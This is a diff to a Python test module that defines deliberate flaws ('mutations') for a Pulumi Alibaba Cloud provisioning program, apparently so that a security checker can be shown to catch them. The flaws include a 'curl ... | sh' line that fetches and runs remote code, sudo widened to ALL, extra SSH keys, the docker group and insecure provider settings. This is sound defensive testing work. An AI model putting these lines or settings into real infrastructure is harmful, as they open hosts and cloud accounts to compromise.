@@ -32,7 +32,7 @@ class Mutation:
     """Statements at the end of the program; ``alicloud`` and ``loop`` are there."""
 
 
-def inputs(name: str, **changes: Any) -> Mutation:
+def inputs(name: str, /, **changes: Any) -> Mutation:
     """Set inputs of the resource with this name; ``a__0__b`` is a path, ABSENT takes away.
 
     A change that is a function is given the present value.
@@ -173,6 +173,50 @@ alicloud.fc.V3Trigger(
 )
 """
 
+_DOMAIN = """
+alicloud.fc.V3CustomDomain(
+    "domain", custom_domain_name="loop.example.com", protocol="HTTPS"
+)
+"""
+
+_IN_ANOTHERS_NAME = """
+import pulumi
+alicloud.eventbridge.EventSourceV2(
+    "forger",
+    event_bus_name=settings.prefix,
+    event_source_name="ecs.provisioning",
+    source_http_event_parameters={
+        "type": "HTTPS", "methods": ["POST"], "security_config": "ip", "ips": ["192.0.2.1"]
+    },
+    opts=pulumi.ResourceOptions(
+        protect=True, additional_secret_outputs=["source_http_event_parameters"]
+    ),
+)
+"""
+
+_OVER_HTTP = """
+import pulumi
+alicloud.eventbridge.EventBus(
+    "near",
+    event_bus_name="near",
+    opts=pulumi.ResourceOptions(
+        protect=True, provider=alicloud.Provider("near", region="cn-hangzhou", protocol="HTTP")
+    ),
+)
+"""
+
+_ACCESS_KEY = """
+alicloud.ram.AccessKey("key", user_name="somebody")
+"""
+
+_PUBLIC_KEY = "key ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAA"
+
+
+def line(text: str) -> Mutation:
+    """Put a line into the script that gives a role."""
+    return script(lambda whole: whole.replace("\numask", f"\n{text}\numask", 1))
+
+
 MUTATIONS: dict[str, Mutation] = {
     "eventbridge-region": Mutation(program=_ABROAD),
     "event-bus-protected": options(
@@ -214,7 +258,7 @@ MUTATIONS: dict[str, Mutation] = {
     "command-timeout": inputs("loop-provision-command", timeout=ABSENT),
     "command-parameters-enabled": inputs("loop-provision-command", enableParameter=False),
     "command-parameters-quoted": script(
-        lambda text: text.replace("\nset -E", '\nlogger "{{emp_id}}"\nset -E', 1)
+        lambda text: text.replace("\numask", '\nlogger "{{emp_id}}"\numask', 1)
     ),
     "command-parameters-validated": script(lambda text: text.replace("$role =~", "$role ==")),
     "command-stops-on-error": script(lambda text: text.replace("set -Eeuo pipefail", "true")),
@@ -225,7 +269,9 @@ MUTATIONS: dict[str, Mutation] = {
     ),
     "ram-not-action": inputs(
         _POLICY,
-        policyDocument=_with_statement(NotAction=["ram:*"], Resource="acs:log:*:*:project/a"),
+        policyDocument=_with_statement(
+            Action=["log:GetProject"], NotResource="acs:log:*:*:project/a"
+        ),
     ),
     "ram-resources-named": inputs(
         _POLICY, policyDocument=_with_statement(Action=["log:DeleteProject"], Resource="*")
@@ -276,6 +322,27 @@ MUTATIONS: dict[str, Mutation] = {
     "bus-rules-quota": Mutation(program=_MANY_RULES),
     "function-role-own": inputs(
         "loop-results-publish-result-function",
-        role="acs:ram::1234567890123456:role/provisioning-prod-run-command",
+        role="acs:ram::1000000000000002:role/provisioning-prod-run-command",
     ),
+    "ram-document-readable": inputs(_POLICY, policyDocument="{"),
+    "property-current": inputs("loop-dead-letters-queue", name="dead-letters"),
+    "ram-hands-nothing-on": inputs(
+        _POLICY, policyDocument=_with_statement(Action=["ram:UpdateRole"], Resource=_ROLE_NAME)
+    ),
+    "ram-attached-policy-seen": inputs("loop-archive-attachment", policyName="another"),
+    "function-domain-authenticated": Mutation(program=_DOMAIN),
+    "secret-in-property": inputs(_FUNCTION, description=ROBOT),
+    "event-source-own-name": Mutation(program=_IN_ANOTHERS_NAME),
+    "command-readable": inputs("loop-provision-command", type="RunPowerShellScript"),
+    "command-fetches-https": line("curl http://a.example.com/b"),
+    "command-runs-what-it-holds": line("curl -s https://a.example.com/b | sh"),
+    "command-sudo-narrow": script(
+        lambda text: text.replace("/usr/bin/systemctl restart app.service", "ALL")
+    ),
+    "command-groups-narrow": script(lambda text: text.replace("groups dba", "groups docker")),
+    "command-keys-personal": script(
+        lambda text: text.replace("groups dba", f"groups dba\n{_PUBLIC_KEY} a\n{_PUBLIC_KEY} b")
+    ),
+    "resource-type-known": Mutation(program=_ACCESS_KEY),
+    "provider-https": Mutation(program=_OVER_HTTP),
 }
